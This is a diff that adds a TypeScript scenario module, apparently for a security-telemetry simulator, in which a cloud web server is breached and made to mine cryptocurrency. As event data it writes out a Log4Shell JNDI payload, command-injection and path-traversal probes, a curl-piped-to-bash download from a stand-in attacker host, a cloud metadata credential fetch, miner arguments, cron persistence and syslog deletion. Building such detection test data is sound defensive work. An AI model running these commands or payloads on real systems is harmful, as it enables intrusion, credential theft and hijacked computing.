@@ -1,0 +1,102 @@
+/** A web application on a cloud machine is broken into, and the machine digs coins: a download, a hidden miner, cron to keep it. */
+import { connected, executed, fileChanged, syslog } from '../events/linux.ts';
+import { dnsLookup } from '../events/network.ts';
+import { webRequest } from '../events/web.ts';
+import { type Device, devicesWith } from '../fleet.ts';
+import { peopleAt } from '../people.ts';
+import { type Story, teller } from './story.ts';
+
+const intruder = '203.0.113.199';
+const pool = '192.0.2.199';
+const miner = '/var/tmp/.x/kworkerd';
+
+function victimAt(organisationId: number, pick: (list: Device[]) => Device): Device {
+  const machines = devicesWith(organisationId, 'cloudMachine');
+  return pick(machines.length > 0 ? machines : devicesWith(organisationId, 'webServer'));
+}
+
+export const cloudMining: Story = {
+  name: 'cloudMining',
+  title: 'Crypto-mining in the cloud',
+  ending: 'malicious',
+  techniques: ['T1190', 'T1059.004', 'T1105', 'T1552.005', 'T1053.003', 'T1496'],
+  keyRules: ['linux/download-piped-to-shell', 'linux/crypto-miner', 'linux/crontab-replaced', 'linux/web-server-starts-shell'],
+  tell(stage) {
+    const { site, random } = stage;
+    const { at, events } = teller(stage);
+    const machine = victimAt(site.organisationId, random.pick);
+    const [resolver] = devicesWith(site.organisationId, 'resolver');
+    const owner = peopleAt(site.organisationId)[0]!;
+    const inWeb = { user: 'www-data', parent: '/usr/bin/dash', directory: '/var/www/html', terminal: '(none)' };
+
+    const probes = [
+      '/.env',
+      '/.git/config',
+      '/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id)',
+      '/index.php?page=../../../../etc/passwd',
+    ];
+    probes.forEach((url, index) => {
+      at(index * 0.3, machine, owner, (scene) =>
+        webRequest(scene, { from: intruder, url, status: 404, bytes: 153, agent: 'Mozilla/5.0 zgrab/0.x' }),
+      );
+    });
+    at(2, machine, owner, (scene) =>
+      webRequest(scene, {
+        from: intruder,
+        url: '/?x=${jndi:ldap://203.0.113.199:1389/a}',
+        agent: '${jndi:ldap://203.0.113.199:1389/a}',
+        status: 200,
+      }),
+    );
+    at(3, machine, owner, (scene) => executed(scene, { ...inWeb, executable: '/usr/bin/id', args: ['id'] }));
+    at(3.2, machine, owner, (scene) => executed(scene, { ...inWeb, executable: '/usr/bin/uname', args: ['uname', '-a'] }));
+    at(4, machine, owner, (scene) =>
+      executed(scene, { ...inWeb, executable: '/usr/bin/dash', args: ['sh', '-c', `curl -fsSL http://${intruder}/x.sh | bash`] }),
+    );
+    at(4.4, machine, owner, (scene) =>
+      executed(scene, {
+        ...inWeb,
+        executable: '/usr/bin/curl',
+        args: ['curl', '-s', 'http://169.254.169.254/latest/meta-data/iam/security-credentials/web-role'],
+      }),
+    );
+    at(5, machine, owner, (scene) => fileChanged(scene, miner, 'created', 'www-data'));
+    at(5.5, machine, owner, (scene) =>
+      executed(scene, {
+        ...inWeb,
+        executable: miner,
+        args: [miner, '-o', 'stratum+tcp://pool.coins.example:3333', '-u', '48edfHu7V9Z84YzzMa6fUueo', '--donate-level=1', '-B'],
+      }),
+    );
+    at(5.7, machine, owner, (scene) => connected(scene, { executable: miner, user: 'www-data', to: pool, port: 3333 }));
+    at(6, machine, owner, (scene) =>
+      syslog(scene, {
+        program: 'crontab',
+        facility: 'cron',
+        pid: random.int(900, 60_000),
+        text: '(www-data) REPLACE (www-data)',
+      }),
+    );
+    at(6.5, machine, owner, (scene) =>
+      executed(scene, { ...inWeb, user: 'root', executable: '/usr/bin/rm', args: ['rm', '-f', '/var/log/syslog'] }),
+    );
+    for (let hour = 0; hour < 9; hour++) {
+      at(15 + hour * 60, machine, owner, (scene) =>
+        syslog(scene, {
+          program: 'CRON',
+          facility: 'cron',
+          pid: random.int(900, 60_000),
+          text: '(www-data) CMD (/bin/sh /var/tmp/.x/run.sh)',
+        }),
+      );
+      if (resolver)
+        at(15.2 + hour * 60, resolver, owner, (scene) =>
+          dnsLookup(scene, { client: machine.ip, name: 'pool.coins.example', answer: pool }),
+        );
+      at(15.4 + hour * 60, machine, owner, (scene) =>
+        connected(scene, { executable: miner, user: 'www-data', to: pool, port: 3333 }),
+      );
+    }
+    return events;
+  },
+};
